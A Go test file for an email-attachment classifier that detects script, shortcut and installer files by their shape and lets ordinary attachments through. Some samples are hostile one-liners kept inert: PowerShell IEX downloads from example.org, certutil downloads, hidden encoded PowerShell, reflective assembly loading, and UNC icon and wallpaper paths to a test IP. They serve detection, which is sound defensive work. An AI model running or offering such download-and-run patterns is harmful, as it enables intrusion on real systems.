package attachments

import (
	"strings"
	"testing"
)

// TestDetectScripts: scripts by their shape, none of which does anything.
func TestDetectScripts(t *testing.T) {
	filler := strings.Repeat("' "+strings.Repeat("x", 70)+"\r\n", 300)
	tests := []struct{ name, head, mediaType string }{
		{"VBS", "Dim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad\"\r\n", "text/vbscript"},
		{"VBS, errors ignored", "On Error Resume Next\r\nSet f = CreateObject(\"Scripting.FileSystemObject\")\r\nf.CreateTextFile \"a\"\r\n", "text/vbscript"},
		{"VBS, one line", "CreateObject(\"WScript.Shell\").Run \"notepad\"", "text/vbscript"},
		{"VBS behind comments", "' a comment\r\nREM another\r\n\r\n" + filler + "Set s = CreateObject(\"Shell.Application\")\r\ns.ShellExecute \"notepad\"\r\n", "text/vbscript"},
		{"VBS, packed", "x = Chr(77) & Chr(115)\r\nExecute x\r\n", "text/vbscript"},
		{"VBS, WMI", "Set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\r\nw.Get(\"Win32_Process\").Create \"notepad\"\r\n", "text/vbscript"},
		{"VBA module", "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\nEnd Sub\r\n", "text/vbscript"},
		{"VBA", "Sub AutoOpen()\r\n  Shell \"notepad\"\r\nEnd Sub\r\n", "text/vbscript"},
		{"JScript", "var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"notepad\");\n", "text/javascript"},
		{"JScript behind a comment", "/* jQuery, by its own word */\n// and more\n\nvar a = WScript.CreateObject(\"WScript.Shell\"); a.Run(\"notepad\");\n", "text/javascript"},
		{"JScript with its interpreter's words", "function f() { WScript.Sleep(1); }\nf();\nWScript.Quit(0);\n", "text/javascript"},
		{"JScript by brackets", "var a = WScript[\"Create\" + \"Object\"](\"WScript.Shell\");\n", "text/javascript"},
		{"JScript in a function", "(function(){var s=new ActiveXObject('Scripting.FileSystemObject');})();", "text/javascript"},
		{"JScript that tries", "try { var w = GetObject('winmgmts:'); } catch (e) {}\n", "text/javascript"},
		{"JScript, compiled upon conditions", "/*@cc_on\nvar s = new ActiveXObject('WScript.Shell');\n@*/", "text/javascript"},
		{"JavaScript, packed", "eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|')))", "text/javascript"},
		{"JavaScript, of codes", "eval(String.fromCharCode(97,108,101,114,116));", "text/javascript"},
		{"JavaScript, obfuscated", "var _0x4f2a=['log'];(function(_0x1,_0x2){})(_0x4f2a,0x1);", "text/javascript"},
		{"PowerShell", "$c = New-Object Net.WebClient\r\nIEX $c.DownloadString('https://example.org/a')\r\n", "application/x-powershell"},
		{"PowerShell, one line", "IEX (New-Object Net.WebClient).DownloadString('https://example.org/a')", "application/x-powershell"},
		{"PowerShell, base64", "$b = [Convert]::FromBase64String('AAAA')\r\n[Reflection.Assembly]::Load($b)\r\n", "application/x-powershell"},
		{"PowerShell, parameters", "<#\n.SYNOPSIS\n  x\n#>\n# a comment\nparam(\n  [Parameter(Mandatory)] [string]$Name\n)\nGet-Item $Name\n", "application/x-powershell"},
		{"PowerShell, binding", "[CmdletBinding()]\nparam([switch]$Force)\n", "application/x-powershell"},
		{"PowerShell, requirements", "#Requires -Version 5\n$a = 1\n", "application/x-powershell"},
		{"PowerShell, machine code", "Add-Type -TypeDefinition '[DllImport(\"kernel32\")] VirtualAlloc'\n", "application/x-powershell"},
		{"BAT", "REM a comment\r\n:: another\r\n@Echo   Off\r\ndir\r\n", "application/x-bat"},
		{"BAT behind a label", ":begin\r\n@echo off\r\n", "application/x-bat"},
		{"BAT without echo off", "echo off\r\ncls\r\n", "application/x-bat"},
		{"BAT, variables", "set a=1\r\nset b=%~dp0\r\nif exist %temp%\\x del /q %temp%\\x\r\ngoto end\r\n", "application/x-bat"},
		{"BAT, encoded command", "powershell -NoP -W Hidden -Enc AAAA\r\n", "application/x-bat"},
		{"BAT, started command", "start /b cmd /c powershell.exe -ep bypass -c \"iex x\"\r\n", "application/x-bat"},
		{"BAT, certutil", "certutil -urlcache -f https://example.org/a a.txt\r\n", "application/x-bat"},
		{"BAT, mshta", "@mshta vbscript:close\r\n", "application/x-bat"},
		{"BAT, pieces of variables", "set x=abc\r\n" + strings.Repeat("%x:~0,1%%x:~1,1%", 10), "application/x-bat"},
		{"BAT that clears the screen", "&cls\r\n@echo off\r\n", "application/x-bat"},
		{"INF", "; setup\r\n[Version]\r\nSignature=\"$CHICAGO$\"\r\n\r\n[DefaultInstall]\r\nRunPreSetupCommands=a\r\n[a]\r\nnotepad\r\n", "application/x-setupscript"},
		{"autorun", "[autorun]\r\nopen=setup.exe\r\nicon=setup.exe,0\r\n", "application/x-setupscript"},
		{"MSC", "<?xml version=\"1.0\"?>\r\n<MMC_ConsoleFile ConsoleVersion=\"3.0\"></MMC_ConsoleFile>", "application/x-ms-msc"},
		{"XSL", "<?xml version='1.0'?>\n<stylesheet xmlns=\"http://www.w3.org/1999/XSL/Transform\" xmlns:ms=\"urn:schemas-microsoft-com:xslt\"><ms:script/></stylesheet>", "application/xslt+xml"},
		{"XSL with a prefix", "<xsl:stylesheet xmlns:msxsl=\"urn:schemas-microsoft-com:xslt\"><msxsl:script/></xsl:stylesheet>", "application/xslt+xml"},
		{"HTA without its element", "<html><script language=\"vbscript\">CreateObject(\"WScript.Shell\").Run \"notepad\"</script></html>", "application/hta"},
		{"terminal", "<?xml version=\"1.0\"?><plist><dict><key>CommandString</key><string>true</string></dict></plist>", "application/x-apple-terminal"},
		{"encoded, behind a comment", "' x\r\n\r\n#@~^AbC+/1==abc==^#~@\r\n", "text/vbscript"},
		{"PowerShell that ends in a pipe", "$a = [Convert]::FromBase64String('AAAA')\r\n[Text.Encoding]::UTF8.GetString($a)|IEX", "application/x-powershell"},
		{"settings of a script", "[ScriptFile]\r\nPath=a.js\r\n", "application/x-wsh"},
		{"build project", "<Project><UsingTask TaskFactory=\"CodeTaskFactory\"/></Project>", "application/x-msbuild"},
		{"task", "<?xml version=\"1.0\"?><Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\"/>", "application/x-ms-task"},
		{"sandbox", "<Configuration><LogonCommand><Command>notepad</Command></LogonCommand></Configuration>", "application/x-ms-wsb"},
		{"shell archive", "# This is a shell archive.  Remove anything before this line\n", "application/x-shar"},
		{"shebang behind blank lines", "\n\n#!/bin/sh\n", "text/x-shellscript"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, head := range []string{tt.head, utf16LE(tt.head), "\xef\xbb\xbf" + tt.head, "\r\n" + tt.head} {
				if k := detect([]byte(head), false); k.class != script || k.mediaType != tt.mediaType {
					t.Errorf("%+v, want %q", k, tt.mediaType)
				}
			}
			if k := detect([]byte(tt.head), true); k.class != "" {
				t.Errorf("as text body: %+v", k)
			}
		})
	}
}

func TestDetectShortcuts(t *testing.T) {
	for _, tt := range []struct{ name, head, mediaType string }{
		{"web query", "WEB\r\n1\r\nhttps://example.org/q\r\n", "application/x-iqy"},
		{"query", "XLODBC\r\n1\r\nDSN=x\r\n", "application/x-dqy"},
		{"data link", "[oledb]\r\n; Everything after this line is an OLE DB initstring\r\nProvider=x\r\n", "application/x-ms-udl"},
		{"shell command, later section", "[Taskbar]\r\nCommand=ToggleDesktop\r\n[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\a.ico\r\n", "application/x-ms-scf"},
		{"media list", "<asx version=\"3.0\"><entry><ref href=\"http://example.org/\"/></entry></asx>", "video/x-ms-asx"},
		{"Remote Desktop", "screen mode id:i:2\r\nfull address:s:192.0.2.1\r\n", "application/x-rdp"},
		{"remote program", "remoteapplicationmode:i:1\r\nremoteapplicationprogram:s:||notepad\r\n", "application/x-rdp"},
		{"application reference", "https://example.org/a.application#a.application, Culture=neutral, PublicKeyToken=0000000000000000, processorArchitecture=msil", "application/x-ms-appref"},
		{"theme", "; a theme\r\n[Theme]\r\nDisplayName=x\r\n\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\192.0.2.1\\a.jpg\r\n", "application/x-windows-theme"},
		{"webloc", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n" +
			"<plist version=\"1.0\"><dict><key>URL</key><string>https://example.org/</string></dict></plist>", "application/x-webloc"},
		{"search", "<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"></persistedQuery>", "application/x-search-ms"},
		{"search connector", "<?xml version=\"1.0\"?><searchConnectorDescription></searchConnectorDescription>", "application/windows-search-connector+xml"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			for _, head := range []string{tt.head, utf16LE(tt.head)} {
				if k := detect([]byte(head), false); k.class != shortcut || k.mediaType != tt.mediaType {
					t.Errorf("%+v, want %q", k, tt.mediaType)
				}
			}
		})
	}
	for _, tt := range []struct{ name, head, mediaType string }{
		{"ClickOnce", "<?xml version=\"1.0\"?><asmv1:assembly xmlns:asmv1=\"urn:schemas-microsoft-com:asm.v1\"><deployment install=\"true\"/></asmv1:assembly>", "application/x-ms-application"},
		{"app installer", "<?xml version=\"1.0\"?><AppInstaller xmlns=\"http://schemas.microsoft.com/appx/appinstaller/2018\"/>", "application/appinstaller"},
	} {
		if k := detect([]byte(tt.head), false); k.class != executable || k.mediaType != tt.mediaType {
			t.Errorf("%s: %+v, want %q", tt.name, k, tt.mediaType)
		}
	}
}

// TestDetectHonest: what people attach to mail passes, also where it speaks of scripts.
func TestDetectHonest(t *testing.T) {
	minified := "/*! lib v1.2 | (c) | MIT */\n!function(e,t){var n=window.ActiveXObject?new window.ActiveXObject(\"Microsoft.XMLHTTP\"):new XMLHttpRequest;" +
		"e.x=function(a){return String.fromCharCode(a)};e.y=function(s){return eval(\"(\"+s+\")\")}}(this);"
	tests := []struct{ name, head, mediaType string }{
		{"patch that adds a script", "diff --git a/run.vbs b/run.vbs\n+Set s = CreateObject(\"WScript.Shell\")\n+s.Run \"notepad\"\n", ""},
		{"patch without a head", "--- a/x.bat\n+++ b/x.bat\n@@ -1 +1,2 @@\n+@echo off\n+set a=%~dp0\n+goto end\n", ""},
		{"patch by mail", "From 0123456789abcdef0123456789abcdef01234567 Mon Sep 17 00:00:00 2001\nFrom: A <a@example.org>\nDate: Mon, 1 Jan 2024 00:00:00 +0000\n" +
			"Subject: [PATCH] x\n\n---\n@echo off\n", "message/rfc822"},
		{"message", "Return-Path: <a@example.org>\r\nReceived: from x by y; now\r\nSubject: x\r\n\r\nCreateObject(\"WScript.Shell\").Run\r\n", "message/rfc822"},
		{"key and value, no message", "subject: x\nkey: value\nother: value\n", ""},
		{"log", "2024-01-01 10:00:00 WARN powershell -nop -enc AAAA was run by cmd.exe /c %temp%\\a.bat\n2024-01-01 goto end\n", ""},
		{"log of keys and values", "time=10:00 level=warn msg=\"WScript.Shell Run\" cmd=\"powershell -enc\"\n", ""},
		{"log of a console", "C:\\> powershell -nop -enc AAAA\r\nC:\\> certutil -urlcache -f x\r\n", ""},
		{"JSON of an alert", `{"process": "wscript.exe", "script": "new ActiveXObject('WScript.Shell').Run('x')", "eval": "eval(unescape('%41'))"}`, ""},
		{"JSON-LD", `{"@context": "https://schema.org", "@type": "Order"}`, ""},
		{"JSON array", `[{"a": "CreateObject(\"WScript.Shell\").Run"}]`, ""},
		{"CSV", "Set,Name,Command\n1,x,powershell -enc AAAA\n", ""},
		{"CSV that begins like a statement", "name,if exist,goto\nset,echo.,pause\n", ""},
		{"Markdown", "# PowerShell\n\nRun `iex (New-Object Net.WebClient).DownloadString(...)`:\n\n    @echo off\n", ""},
		{"prose", "Set up the machine first: call CreateObject(\"WScript.Shell\") and then .Run it.\n", ""},
		{"prose about a variable", "If the script fails, then use Dim and Set. CreateObject( makes objects, .Run starts them; execute.\n", ""},
		{"prose about a command", "Powershell is a shell; -enc takes base64, and iex runs it. See https://example.org/\n", ""},
		{"prose about the echo", "Echo off, please. Powershell -enc AAAA is bad.\n", ""},
		{"prose about start", "Start with a backup, and then go on.\n", ""},
		{"minified library", minified, ""},
		{"library of modules", "\"use strict\";\nconst fs = require('fs');\nmodule.exports = function () { return eval('1'); };\n", ""},
		{"configuration of a bundler", "module.exports = { devtool: 'eval', entry: './a.js' };\n", ""},
		{"Python", "import os\n\ndef f():\n    return eval('1')\n", ""},
		{"Perl", "use strict;\nmy $x = 1;\n", ""},
		{"Perl that assigns", "$x = system('ls');\nprint $x;\n", ""},
		{"PHP", "<?php\n$x = eval('1');\n", ""},
		{"Go", "package main\n\nfunc main() { exec(\"powershell -enc\") }\n", ""},
		{"C#", "using System;\nclass A { void F() { new WebClient().DownloadFile(\"a\", \"b\"); Process.Start(\"x\"); } }\n", ""},
		{"SQL", "SET NOCOUNT ON;\nIF EXISTS (SELECT 1) EXECUTE sp_help;\nGOTO x;\n", ""},
		{"TeX", "\\documentclass{article}\n% goto end %~\n", ""},
		{"Makefile", "all:\n\techo x\n", ""},
		{"properties", "set=1\ncall=2\ngoto=3\n", ""},
		{"build project without code", "<Project Sdk=\"Microsoft.NET.Sdk\"></Project>", ""},
		{"note about the encoder", "Encoded scripts begin with #@~^ and end with ^#~@.\n", ""},
		{"INI", "[Version]\nnumber=1\n[Theme]\ncolor=blue\n", ""},
		{"folder settings", "[.ShellClassInfo]\r\nIconResource=a.ico,0\r\n", ""},
		{"calculation", "$total = $a + $b\nparam: none\n", ""},
		{"price", "$5.00 is the price.\n", ""},
		{"table of a spreadsheet", "ID;PWXL;N;E\nC;Y1;X1;K1\nE\n", "application/x-sylk"},
		{"property list", "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>Label</key></dict></plist>", "application/xml"},
		{"manifest of a program", "<?xml version=\"1.0\"?><assembly xmlns=\"urn:schemas-microsoft-com:asm.v1\"><dependency/></assembly>", "application/xml"},
		{"stylesheet", "<?xml version=\"1.0\"?><xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"/>", "application/xml"},
		{"invoice", "<?xml version=\"1.0\"?><rsm:CrossIndustryInvoice xmlns:rsm=\"x\"/>", "application/xml"},
		{"HTML", "<!DOCTYPE html><html><body>x</body></html>", "text/html"},
		{"HTML behind a comment", "\r\n<!-- x -->\r\n<!-- y --><div>x</div>", "text/html"},
		{"HTML in UTF-16", utf16LE("<html></html>"), "text/html"},
		{"HTML of nothing but a comment", "<!-- x", "text/html"},
		{"XHTML", "<?xml version=\"1.0\"?><!DOCTYPE html PUBLIC \"x\" \"y\"><html xmlns=\"http://www.w3.org/1999/xhtml\"></html>", "application/xhtml+xml"},
		{"SVG", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>", "image/svg+xml"},
		{"SVG with entities", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a \"b>\">]><svg xmlns=\"http://www.w3.org/2000/svg\"/>", "image/svg+xml"},
		{"SVG with a prefix", "<?xml version=\"1.0\"?><s:svg xmlns:s=\"http://www.w3.org/2000/svg\"/>", "image/svg+xml"},
		{"chat", "<anna> hello\n<bert> hello\n", ""},
		{"uuencoded", "begin 644 a.txt\n#0V%T\n`\nend\n", "text/x-uuencode"},
		{"sentence that begins", "begin 6 new projects\n", ""},
		{"OpenPGP, armoured", "-----BEGIN PGP MESSAGE-----\r\n\r\nx\r\n", "application/pgp-encrypted"},
		{"PEM of CMS", "-----BEGIN PKCS7-----\nMA==\n-----END PKCS7-----\n", "application/pkcs7-mime"},
		{"calendar", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\n", "text/calendar"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if k := detect([]byte(tt.head), false); k.class != "" || k.mediaType != tt.mediaType {
				t.Errorf("%+v, want %q", k, tt.mediaType)
			}
		})
	}
}
